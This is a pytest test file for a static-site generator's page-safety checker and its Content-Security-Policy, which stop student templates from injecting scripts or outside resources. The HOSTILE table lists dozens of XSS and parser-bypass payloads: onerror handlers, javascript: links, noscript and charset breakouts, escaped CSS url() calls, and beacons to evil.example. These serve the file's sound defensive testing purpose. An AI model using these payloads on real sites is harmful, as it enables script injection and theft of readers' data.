"""A student's template writes no script, frame or outside resource into a page of the Book
(`app.page_safety`): the sandbox stops code on the machine that builds, this stops it in the
reader's browser; the theme's own pages, in every design, pass."""

from __future__ import annotations

import pytest

from profile_gen.app.page_safety import page_problem

OWN = ("https://lea.example.org/book/",)

HOSTILE = {
    "inline script": "<script>fetch('../../bob/annexe/')</script>",
    "script elsewhere": '<script src="https://evil.example/x.js"></script>',
    "script of the folder": '<script src="files/x.js"></script>',
    "module script": '<script type="module">import("https://evil.example/")</script>',
    "event handler": '<img src="images/a.jpg" onerror="alert(1)">',
    "svg handler": '<svg onload="alert(1)"></svg>',
    "javascript link": '<a href=" javascript:alert(1)">x</a>',
    "frame": '<iframe src="annexe/index.html"></iframe>',
    "object": '<object data="x.pdf"></object>',
    "base": '<base href="https://evil.example/">',
    "picture elsewhere": '<img src="https://evil.example/c?33612345678">',
    "srcset elsewhere": '<img src="a.jpg" srcset="a.jpg 1x, //evil.example/b.jpg 2x">',
    "style sheet elsewhere": '<link rel="stylesheet" href="https://evil.example/s.css">',
    "prefetch elsewhere": '<link rel="dns-prefetch" href="//evil.example">',
    "style url": '<p style="background: url(https://evil.example/p.png)">x</p>',
    "style block": "<style>body { background: url('//evil.example/p.png') }</style>",
    "style import": "<style>@import 'x.css';</style>",
    "refresh": '<meta http-equiv="refresh" content="0; url=https://evil.example/">',
    # what a browser reads otherwise than Python's parser (found by a review)
    "type given twice": '<script type="text/javascript" type="application/json">alert(1)</script>',
    "src given twice": '<script src="https://evil.example/x.js" src="theme/js/a.js"></script>',
    "data script as the theme's": '<script src="data:text/javascript,alert(1)//theme/js/x.js">',
    "backslash host": '<script src="/\\evil.example/theme/js/x.js"></script>',
    "noscript ends in a title": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "title ends in a title": '<title><p title="</title><img src=x onerror=alert(1)>"></title>',
    "xmp": '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
    "svg style is markup": "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "comment closed at once": "<!--><img src=x onerror=alert(1)>-->",
    "cdata in html": "<![CDATA[ ><img src=x onerror=alert(1)> ]]>",
    "tab in a scheme": '<img src="ht&#9;tps://evil.example/x.png">',
    "control before the address": '<img src="&#1;https://evil.example/x.png">',
    "image-set": "<p style=\"background: image-set('https://evil.example/a.png' 1x)\">x</p>",
    "escaped url": "<style>p { background: \\75rl(https://evil.example/a.png) }</style>",
    "escaped import": "<style>@\\69mport 'https://evil.example/s.css';</style>",
    "body background": '<body background="https://evil.example/b.png">',
    "ping": '<a href="a.html" ping="https://evil.example/p">x</a>',
    "tab in javascript": '<a href="java&#9;script:alert(1)">x</a>',
    "svg javascript": '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "animated to javascript": '<svg><a><animate attributeName="href" values="javascript:alert(1)"/></a></svg>',
    "remote font list": (
        '<script>if (location.protocol !== "file:") for (const href of ["https://evil.example/f.woff2"]) '
        'document.head.append(Object.assign(document.createElement("link"), {rel: "preload", '
        'as: "font", type: "font/woff2", crossOrigin: "", href}));</script>'
    ),
    # a second review's findings
    "end tag with an attribute": (
        '<script type="application/json">{}</script x><img src=x onerror=alert(1)></script>'
    ),
    "noscript end tag with an attribute": (
        '<noscript><p title="</noscript x><img src=x onerror=alert(1)>"></noscript>'
    ),
    "style end tag with an attribute": "<style>/*</style x><img src=x onerror=alert(1)>*/</style>",
    "comment in a data script": (
        '<script type="application/json"><!--<script></script><noscript></script>'
        "<img src=x onerror=alert(1)></noscript>"
    ),
    "foreignObject": '<svg><foreignObject><noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "math text": '<math><mtext><noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "html leaving svg": "<svg><p></p><style><!-- body{background:url(//evil.example/a.png)} --></style>",
    "data script in svg": '<svg><script type="application/json"><img src=x onerror=alert(1)></script></svg>',
    "style sheet as data": '<link rel=stylesheet href="data:text/css,@import url(https://e.x/s.css);">',
    "scheme without slashes": "<style>p { background: url(https:evil.example/a.png) }</style>",
    "backslash in css": "<p style=\"background: url('/\\\\evil.example/a.png')\">x</p>",
    "svg fill": '<svg><rect fill="url(https://evil.example/f.svg#p)"/></svg>',
    "svg set": '<svg><image href="a.png"><set attributeName="href" to="https://e.x/s.png"/></image></svg>',
    "another character set": (  # read as ISO-2022-JP, the script leaves the attribute
        '<meta charset="iso-2022-jp"><a title="\x1b$B">\x1b(B<script>alert(1)</script>">x</a>'
    ),
    "a character set in raw text": "<title><meta charset=utf-16le></title>",
    "a character set by http-equiv": (
        '<meta http-equiv="Content-Type" content="text/html; charset=shift_jis">'
    ),
    "an escape character alone": '<p title="\x1b$B">\x1b(B</p>',
    "a character set after a quoted >": '<meta title=">" charset="iso-2022-jp"><p>x</p>',
    "font list made code": (
        '<script>if (location.protocol !== "file:") for (const href of ["a"+alert(1)+"b"]) '
        'document.head.append(Object.assign(document.createElement("link"), {rel: "preload", '
        'as: "font", type: "font/woff2", crossOrigin: "", href}));</script>'
    ),
}


@pytest.mark.parametrize("html", HOSTILE.values(), ids=list(HOSTILE))
def test_what_a_browser_would_run_or_fetch_elsewhere_is_found(html):
    assert page_problem(f"<html><body>{html}</body></html>", OWN) is not None


THEME = {
    "the theme's scripts": '<script src="../theme/js/deck.js"></script>',
    "data blocks": '<script type="application/ld+json">{"name": "x"}</script>',
    "fonts preloaded": (
        '<script>if (location.protocol !== "file:") for (const href of [\n "./theme/fonts/a.woff2"'
        '\n]) document.head.append(Object.assign(document.createElement("link"), {rel: "preload", '
        'as: "font", type: "font/woff2", crossOrigin: "", href}));</script>'
    ),
    "the Book's own address": '<link rel="icon" href="https://lea.example.org/book/favicon.svg">',
    "links to read": '<a href="https://www.linkedin.com/in/lea/">LinkedIn</a>',
    "canonical": '<link rel="canonical" href="https://lea.example.org/book/">',
    "data picture": '<img src="data:image/png;base64,AAAA" alt="">',
    "local style": "<style>@font-face { src: url('theme/fonts/a.woff2') }</style>",
    "own style": '<p style="--cv-accent: #2a5fa0">x</p>',
    "UTF-8 declared": '<meta charset="utf-8"><meta http-equiv="content-type" content="text/html; charset=UTF-8">',
    "a character set named in an article": "<pre>&lt;meta charset=iso-8859-1&gt;</pre>",
    "a character set named in a summary": (
        '<meta charset="utf-8"><meta name="description" content="Passer de charset=latin1 à UTF-8">'
    ),
    "a terminal's colours in a UTF-8 page": '<meta charset="utf-8"><pre>\x1b[31mKO\x1b[0m</pre>',
}


@pytest.mark.parametrize("html", THEME.values(), ids=list(THEME))
def test_the_themes_own_pages_pass(html):
    assert page_problem(f"<html><head>{html}</head></html>", OWN) is None


def test_a_style_made_to_be_slow_is_read_in_linear_time():
    """`url(` a hundred thousand times once took minutes to read (a quadratic pattern): it
    is read within the limit the build gives a template's render (about 0.1 s here; the
    limit only stops a hang)."""
    from profile_gen.book import time_limit

    with time_limit.cpu_limit():
        assert page_problem("<style>" + "url(" * 100_000 + "</style>", OWN) is None


def test_a_template_writing_a_script_stops_the_build(sample_copy, run_cli, in_dir):
    """A template found elsewhere, with a script that reads the pages beside it (another
    student's annexe, in a cohort served over HTTP): the build names the page."""
    page = (
        '{% extends "!theme/home.html" %}{% block content %}{{ super() }}'
        "<script>fetch('../bob/annexe/index.html').then(r => r.text())</script>{% endblock %}"
    )
    (sample_copy / "content/templates").mkdir()
    (sample_copy / "content/templates/home.html").write_text(page, encoding="utf-8")
    in_dir(sample_copy)
    result = run_cli("build", "--formats=")
    assert result.code == 2 and "Traceback" not in result.err, result.err
    assert "index.html : la page écrit <script>fetch(" in result.err
    assert not (sample_copy / "output").exists()


@pytest.mark.parametrize("design", ["classique", "moderne", "compact"])
def test_every_page_of_every_design_passes_with_a_template_of_the_students(
    sample_copy, run_cli, in_dir, design
):
    """A student's template switches the sandbox (and the reading of the pages) on: the
    Book, the annexe, the CV and the deck of each design pass."""
    (sample_copy / "content/templates").mkdir()
    (sample_copy / "content/templates/404.html").write_text(
        '{% extends "!theme/404.html" %}', encoding="utf-8"
    )
    profile = sample_copy / "content/profile.yaml"
    profile.write_text(profile.read_text("utf-8") + f"\ndesign: {design}\n", encoding="utf-8")
    in_dir(sample_copy)
    result = run_cli("build", "--formats=")
    assert result.code == 0, result.err


def test_a_students_pages_tell_the_browser_what_they_may_do(chromium, sample_copy, run_cli, in_dir):
    """Beside the page check, each page built with a student's template carries its
    Content-Security-Policy: the theme lives with it (no violation on the Book's home nor
    on the deck, whose coach still loads its listening module), and a script the check
    could not tell would not run."""
    from profile_gen.app.page_safety import with_policy
    from tests.browser import CHROMIUM
    from tests.test_deck_rehearsal import LISTENING

    (sample_copy / "content/templates").mkdir()
    (sample_copy / "content/templates/404.html").write_text(
        '{% extends "!theme/404.html" %}', encoding="utf-8"
    )
    in_dir(sample_copy)
    assert run_cli("build", "--formats=").code == 0
    output = sample_copy / "output"
    home = (output / "index.html").read_text("utf-8")
    assert '<meta http-equiv="Content-Security-Policy"' in home
    assert "script-src 'self' file: 'sha256-" in home  # the theme's inline script, by hash

    browser = chromium.browser_type.launch(executable_path=str(CHROMIUM), args=LISTENING)
    try:
        page = browser.new_page()
        refused: list[str] = []
        page.on("console", lambda m: refused.append(m.text) if "Content Security" in m.text else 0)
        page.goto((output / "index.html").as_uri())
        page.goto((output / "soutenance/index.html").as_uri())
        page.keyboard.press("p")
        page.keyboard.press("m")  # the coach listens: its module loaded under the policy
        status = "() => window.ProfileGenCoach?.active?.status"  # (no eval under the policy)
        for _ in range(100):
            if page.evaluate(status) == "on":
                break
            page.wait_for_timeout(200)
        assert page.evaluate(status) == "on"
        assert refused == []
    finally:
        browser.close()

    # what the reading would have refused, given the policy alone: nothing of it runs
    hostile = output / "hostile.html"
    hostile.write_text(
        with_policy(
            "<!doctype html><html><head><title>t</title></head><body>"
            "<script>document.title = 'ran'</script>"
            '<img src="https://evil.example/x.png" onerror="document.title = \'ran\'">'
            "</body></html>"
        ),
        encoding="utf-8",
    )
    page = chromium.new_page()
    page.goto(hostile.as_uri())
    assert page.title() == "t"
    page.close()
